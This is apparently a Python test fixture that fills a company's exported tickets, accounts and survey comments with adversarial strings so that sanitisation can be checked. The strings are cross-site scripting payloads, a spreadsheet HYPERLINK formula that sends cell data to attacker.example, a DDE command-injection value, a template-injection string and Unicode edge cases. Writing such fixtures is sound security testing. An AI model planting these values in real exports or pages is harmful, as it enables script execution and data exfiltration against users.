"""Exports of the small company whose every free text is an attack, or a text as nobody should write it."""

from __future__ import annotations

from support.small_company import Exports, exports

SCRIPT = "<script>window.ran = 1</script><img src=x onerror='window.ran = 1'>\"><svg onload=window.ran=1>"
FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"see")'
COMMAND = "+cmd|' /C calc'!A0"
RIGHT_TO_LEFT = "\u202eשלום\u202c مرحبا \u2066x\u2069"
LONG = "Längst" + "W" * 9_994
EMOJI = "👩‍👩‍👧‍👦🏳️‍🌈\u200b\u200dé\u0301"
TEMPLATE = "{{ 7 * 7 }}{% raw %}${HANSEI_IDENTITY_KEY}%s\\n"
TEXTS = (SCRIPT, FORMULA, COMMAND, RIGHT_TO_LEFT, LONG, EMOJI, TEMPLATE)


def hostile_exports() -> Exports:
    """As `exports`, with the texts above as teams, channels, tiers, companies, people and comments."""
    made = exports()
    teams, channels = {f"G{n}": text for n, text in enumerate((SCRIPT, LONG, RIGHT_TO_LEFT))}, {}
    channels |= {"mail": FORMULA, "chat": SCRIPT, "phone": EMOJI}
    tiers = {"gold": SCRIPT, "silver": COMMAND, "bronze": TEMPLATE}
    for name, records in made.files.items():
        for number, record in enumerate(records):
            text = TEXTS[number % len(TEXTS)]
            if name.startswith("tickets"):
                record |= {"group": teams.get(record["group"], record["group"]), "channel": channels[record["channel"]]}
                record["priority"] = FORMULA if record["priority"] == "high" else record["priority"]
            elif name.startswith("events") and record["type"] == "team":
                record["holder"] = teams.get(record["holder"], record["holder"])
            elif name.startswith("accounts"):
                record |= {"company": text, "owner": text, "tier": tiers.get(record["tier"], record["tier"])}
            elif name.startswith("customers"):
                record["name"] = text
            elif name.startswith("survey"):
                record["comment"] = text
    return made
